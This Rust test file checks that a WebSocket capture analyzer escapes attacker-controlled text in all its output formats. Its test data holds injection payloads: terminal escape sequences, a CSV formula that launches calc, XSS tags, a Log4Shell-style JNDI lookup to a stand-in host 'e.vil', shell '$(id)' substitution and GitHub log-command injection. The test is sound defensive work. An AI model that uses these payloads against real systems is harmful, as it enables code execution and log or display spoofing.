//! What a stranger wrote is shown and never obeyed: not by a terminal, a browser, a spreadsheet, a forge or a log. Each kind
//! of hostile text goes through every place of a capture from which text comes, into everything that the program prints.

use crate::support::{run, scratch};
use crate::traffic::{CLIENT, Flow, MASK, SERVER, Wire, frame};
use crate::wrappings::pcapng;
use std::fs;
use std::path::Path;
use wsanalyze::report::escape::is_hidden;

/// Harmless, to be compared with.
const PLAIN: &str = "plain";

/// Kinds of hostile text that a line of a head can hold.
const IN_LINE: [(&str, &str); 12] = [
    ("terminal", "\u{1b}[31mred\u{1b}]0;owned\u{7}\u{8}"),
    ("control of one byte", "\u{9b}2J\u{90}q"),
    ("bidirectional", "\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}"),
    ("formula", "=cmd|' /C calc'!A0"),
    ("sum", "+1+1"),
    ("difference", "-2+3"),
    ("function", "@SUM(A1)"),
    ("cells", "a|b `c` **d** # e | f"),
    ("link", "[x](http://e.vil) ![y](http://e.vil/y) <http://e.vil>"),
    ("markup", "\"'><script>alert(1)</script><img src=x onerror=alert(1)>"),
    ("document", "]]><!--&lt;%0A::error::owned</testsuites>"),
    ("template", "{0} ${jndi:ldap://e.vil/a} $(id) `id`"),
];

/// And those that only a payload or a name can hold.
const IN_NAMES: [(&str, &str); 3] =
    [("lines", "a\r\n::error::owned\r\n| x | y |\n# owned\n=1+1"), ("zero", "a\0b\0"), ("zero alone", "\0")];

#[test]
fn hostile_text_changes_nothing_but_itself() {
    let folder = scratch("hostile");
    let plain = outputs(&folder, PLAIN, PLAIN);
    for (kind, text) in IN_LINE {
        compare(kind, &plain, &outputs(&folder, text, text));
    }
    for (kind, text) in IN_NAMES {
        compare(kind, &plain, &outputs(&folder, PLAIN, text));
    }
}

/// Everything that the program prints of a capture in which `line` stands in the heads, and `name` where any bytes may.
fn outputs(folder: &Path, line: &str, name: &str) -> Vec<(String, String)> {
    let path = folder.join("capture.pcapng");
    fs::write(&path, capture(line, name)).unwrap();
    let path = path.to_str().unwrap();
    let mut outputs = Vec::new();
    for format in crate::formats::formats() {
        let ran = run(&["--format", &format, "--show-secrets", "--messages=payload", path]);
        let (ran, what) = match ran.status {
            // Messages are listed in three formats.
            2 => (run(&["--format", &format, "--show-secrets", path]), format),
            _ => (ran, format),
        };
        assert!(!ran.out.is_empty(), "{what}: {}", ran.err);
        outputs.push((what, ran.out));
    }
    for view in [&["connections", "--wide"][..], &["timeline"], &["ladder", "0"], &["ladder", "1"]] {
        let ran = run(&[view, &[path]].concat());
        assert!(!ran.out.is_empty(), "{view:?}: {}", ran.err);
        outputs.push((view.join(" "), ran.out));
    }
    outputs
}

/// The same structure, whatever the text.
fn compare(kind: &str, plain: &[(String, String)], hostile: &[(String, String)]) {
    for ((what, plain), (_, hostile)) in plain.iter().zip(hostile) {
        if ["table", "html", "json", "markdown", "ladder 0"].contains(&what.as_str()) {
            assert!(plain != hostile, "{kind} is not shown in {what}");
        }
        // Lines of CSV end in two characters (RFC 4180).
        let hostile = &if what == "csv" { hostile.replace("\r\n", "\n") } else { hostile.clone() };
        let plain = &if what == "csv" { plain.replace("\r\n", "\n") } else { plain.clone() };
        let hidden = hostile.chars().find(|&c| c != '\n' && is_hidden(c));
        assert_eq!(hidden, None, "{kind} in {what}");
        // Logs of GitHub obey such lines, whatever format they are in. In a page a line break is a space.
        for line in ["\n::error::owned", "\n# owned", "\n=1+1"] {
            assert!(what == "html" || !hostile.contains(line), "{kind}: a line {line:?} in {what}");
        }
        let count = |text: &str, part: &str| text.matches(part).count();
        let same =
            |part: &str| assert_eq!(count(hostile, part), count(plain, part), "{kind}: {part:?} in {what}");
        match what.as_str() {
            "html" => ["<", ">", "<script", "<img"].into_iter().for_each(same),
            "junit" => ["<", "]]>", "<!--"].into_iter().for_each(same),
            "github" => same("\n::"),
            "csv" => {
                let cells = |text: &str| cells(text).iter().map(Vec::len).collect::<Vec<_>>();
                assert_eq!(cells(hostile), cells(plain), "{kind}");
                for cell in self::cells(hostile).iter().flatten() {
                    assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{kind}: {cell}");
                }
            }
            "markdown" => {
                assert_eq!(columns(hostile), columns(plain), "{kind}");
                let text = outside_code(hostile).replace("\\]", "");
                for part in ["](http", "<script", "<img", "http://e.vil"] {
                    assert!(!text.contains(part), "{kind}: {part} in {text}");
                }
            }
            _ => {}
        }
    }
}

/// The cells of every row (RFC 4180).
fn cells(csv: &str) -> Vec<Vec<String>> {
    let (mut rows, mut quoted) = (vec![vec![String::new()]], false);
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                row.last_mut().unwrap().push(chars.next().unwrap())
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(String::new()),
            '\n' if !quoted => rows.push(vec![String::new()]),
            c => row.last_mut().unwrap().push(c),
        }
    }
    rows
}

/// The text without its code spans: as many backticks end one as began it (CommonMark §6.1).
fn outside_code(markdown: &str) -> String {
    let (mut text, mut rest) = (String::new(), markdown);
    while let Some(at) = rest.find('`') {
        let ticks = rest[at..].chars().take_while(|&c| c == '`').count();
        let inside = &rest[at + ticks..];
        let ends = |(place, _): &(usize, &str)| {
            let run = inside[*place..].chars().take_while(|&c| c == '`').count();
            run == ticks && !inside[..*place].ends_with('`')
        };
        text.push_str(&rest[..at]);
        rest = inside.match_indices('`').find(ends).map_or("", |(place, _)| &inside[place + ticks..]);
    }
    text + rest
}

/// How many cells the rows of all tables have.
fn columns(markdown: &str) -> Vec<usize> {
    let rows = markdown.lines().filter(|line| line.starts_with('|'));
    rows.map(|line| line.replace("\\\\", "").replace("\\|", "").matches('|').count()).collect()
}

/// A session that is closed with a reason, a refused upgrade, and TLS that no key opens, with hostile text in all of them.
fn capture(line: &str, name: &str) -> Vec<u8> {
    let mut wire = Wire::new();
    let head = format!(
        "GET /{}?q=1 HTTP/1.1\r\nHost: h{line}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nOrigin: o{line}\r\n\
         User-Agent: {line}\r\nX-Forwarded-For: {line}\r\nVia: 1.1 {line}\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: x-{{{line}}}\r\n\
         Sec-WebSocket-Protocol: p{{{line}}}\r\n\r\n",
        line.replace([' ', '\0'], "_")
    );
    let accepted = format!(
        "HTTP/1.1 101 {line}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nServer: {line}\r\n\
         Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n"
    );
    let refused = format!(
        "HTTP/1.1 302 {line}\r\nLocation: {line}\r\nServer: {line}\r\nContent-Type: {line}\r\nContent-Length: {}\r\n\r\n{name}",
        name.len()
    );
    let mut session = Flow::new(0);
    session.greet(&mut wire);
    session.send(&mut wire, CLIENT, head.as_bytes());
    session.send(&mut wire, SERVER, accepted.as_bytes());
    session.send(&mut wire, CLIENT, &frame(0x81, Some(MASK), name.as_bytes()));
    let reason = [&4001_u16.to_be_bytes()[..], name.as_bytes()].concat();
    session.send(&mut wire, SERVER, &frame(0x88, None, &reason));
    session.send(&mut wire, CLIENT, &frame(0x88, Some(MASK), &1002_u16.to_be_bytes()));
    session.finish(&mut wire);
    let mut refusal = Flow::new(1);
    refusal.greet(&mut wire);
    refusal.send(&mut wire, CLIENT, head.as_bytes());
    refusal.send(&mut wire, SERVER, refused.as_bytes());
    refusal.finish(&mut wire);
    let mut tls = Flow::new(2);
    tls.greet(&mut wire);
    tls.send(&mut wire, CLIENT, &client_hello(name.as_bytes()));
    tls.send(&mut wire, SERVER, &[0x15, 3, 3, 0, 2, 2, 112]);
    tls.finish(&mut wire);
    let mut file = pcapng(&wire.bytes);
    for address in [[10, 0, 0, 0], [192, 0, 2, 9]] {
        file.extend(name_block(address, name.as_bytes()));
    }
    file
}

/// A client hello for a server of that name (RFC 8446 §4.1.2, RFC 6066 §3).
pub fn client_hello(name: &[u8]) -> Vec<u8> {
    let with_length = |bytes: &[u8]| [&(bytes.len() as u16).to_be_bytes()[..], bytes].concat();
    let entry = [&[0][..], &with_length(name)].concat();
    let extension = [&[0, 0][..], &with_length(&with_length(&entry))].concat();
    let body = [&[3, 3][..], &[7; 32], &[0], &[0, 2, 0x13, 1], &[1, 0], &with_length(&extension)].concat();
    let message = [&[1, 0][..], &with_length(&body)].concat();
    [&[0x16, 3, 1][..], &with_length(&message)].concat()
}

/// A pcapng block that names an address.
fn name_block(address: [u8; 4], name: &[u8]) -> Vec<u8> {
    let value = [&address[..], name, &[0]].concat();
    let mut body = [&1_u16.to_le_bytes()[..], &(value.len() as u16).to_le_bytes(), &value].concat();
    body.resize(body.len().next_multiple_of(4), 0);
    body.extend([0; 4]);
    let length = (body.len() + 12) as u32;
    [&4_u32.to_le_bytes()[..], &length.to_le_bytes(), &body, &length.to_le_bytes()].concat()
}
